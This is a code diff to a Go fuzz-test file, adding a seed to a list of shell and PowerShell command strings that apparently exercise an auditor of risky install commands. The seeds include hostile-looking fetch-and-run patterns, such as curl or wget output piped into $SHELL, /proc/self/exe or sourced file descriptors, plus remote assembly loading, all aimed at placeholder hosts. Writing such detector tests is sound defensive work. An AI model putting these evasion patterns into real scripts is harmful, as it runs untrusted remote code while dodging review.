@@ -350,6 +350,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "man -P 'npx p' -Pless --pager=\"sh -c 'id'\" ls; strace -f -o '|npx p' --output=!id -o x -o; tcpdump -z /t/x -w a; scp -S /t/x a b; sftp -D '/t/x -e' -S; rake -f R -e \"system('id')\" -E x --execute=y -p; python -m pdb -c 'import os; os.system(\"id\")' -c c -c '!x;; p y;; b 1;; ' --command=q x.py; python -m pdb -m m -c z; dotnet script eval 'Process.Start(\"id\")'; dotnet-script eval"},
 	{"sh", "-c", "ANT_OPTS=x SBT_OPTS=x JVM_OPTS=x LEIN_JVM_OPTS=x CLJ_JVM_OPTS=x JBANG_JAVA_OPTIONS=x JRUBY_OPTS=x CATALINA_OPTS=x ES_JAVA_OPTS=x KAFKA_OPTS=x HADOOP_OPTS=x SPARK_SUBMIT_OPTS=x PERL5DB=x PERLDB_OPTS=x MAKEFILES=x WGETRC=x CURL_HOME=x perl -d x; export Kafka_Opts=y; env curl_home=/t curl h://x"},
 	{"pwsh", "-c", "Install-Module a,b -Force -Scope CurrentUser -Req:1.2.3; Install-Module -Name c -Re 1; Install-PSResource d -Version '[1.0,2.0)'; Save-Script -Path x e; Update-Module; Install-Package -; $ExecutionContext.InvokeCommand.InvokeScript((irm https://x)); [System.Reflection.Assembly]::Load((iwr https://y).Content); Add-Type -TypeDefinition 'class X {}'; Add-Type -AssemblyName Z"},
+	{"bash", "-c", "curl h://x | ${SHELL}; curl h://x | \"$SHELL\" -s; curl h://x | $BASH; curl h://x | /proc/self/exe; $SHELL -c 'npx p'; ${BASH:-x} -c id; SHELL=/bin/cat; curl h://x | $SHELL; exec 3< <(curl h://x); bash <&3; exec 4< <(echo); . /dev/fd/4; exec 5< <(wget -O- h://y) 6< <(id); source /dev/fd/5"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
